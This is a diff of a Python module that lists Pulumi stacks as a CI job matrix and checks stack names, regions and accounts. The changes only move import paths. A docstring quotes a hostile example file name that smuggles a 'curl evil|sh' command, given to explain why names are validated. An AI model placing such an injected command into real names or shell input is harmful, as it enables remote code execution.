@@ -2,7 +2,7 @@
 
 No workflow names a stack or a region: each reads this JSON (`fromJSON`), so adding a stack file
 (and its policy config) is all it takes for checks, preview and deploy to include it. Only PyYAML
-is needed (`python3 -m infra.cli.stacks`), so a workflow can list the stacks before it installs
+is needed (`python3 -m infra.offline.stacks`), so a workflow can list the stacks before it installs
 the program. The names here (roles, runner project, backend) are the ones components/delivery.py
 creates; `higgsfield check` validates each stack file in full.
 """
@@ -49,7 +49,7 @@ def runner_project(stack: str, purpose: str) -> str:
 
 
 def _entry(path: Path) -> dict[str, Any]:
-    from infra.cli.option_files import OptionFileError
+    from infra.offline.option_files import OptionFileError
 
     stack = checked_stack_name(path)
     try:  # PyYAML alone (this runs in CI before the dependencies): any bytes give one line, never a traceback
@@ -85,7 +85,7 @@ def checked_stack_name(path: Path) -> str:
     """The stack a stack file's name names, refused unless it is a stack name (a lowercase DNS
     label of at most 30): the name goes into CI job matrices, role names and shell commands, so a
     file named `Pulumi.x;curl evil|sh.yaml` must never become a stack."""
-    from infra.cli.option_files import OptionFileError
+    from infra.offline.option_files import OptionFileError
 
     stack = path.name[len("Pulumi."):-len(".yaml")]
     if not re.fullmatch(STACK_NAME, stack):
@@ -96,7 +96,7 @@ def checked_stack_name(path: Path) -> str:
 def _checked(entry: dict[str, Any], path: Path) -> dict[str, Any]:
     """What the matrix carries from a stack file into CI, refused unless it has the shape the
     config model would give it (the model itself runs in `plan`/`check`)."""
-    from infra.cli.option_files import OptionFileError
+    from infra.offline.option_files import OptionFileError
 
     for key, pattern in (("region", r"[a-z]{2}(-[a-z]+)+-\d"), ("account", r"\d{12}"), ("deployEnvironment", r"[A-Za-z0-9._-]{1,255}")):
         if key in entry and not (isinstance(entry[key], str) and re.fullmatch(pattern, entry[key])):
@@ -119,7 +119,7 @@ def main(argv: list[str] | None = None) -> int:
     parser.add_argument("--delivered", action="store_true", help="only stacks with higgsfield:delivery (previewed and deployed by CI)")
     parser.add_argument("--root", type=Path, default=None, help="the project (default: the folder holding Pulumi.yaml, from here up)")
     args = parser.parse_args(argv)
-    from infra.project import project_root
+    from infra.core.project import project_root
 
     print(json.dumps(stack_matrix(args.root or project_root(), args.delivered), separators=(",", ":")))
     return 0
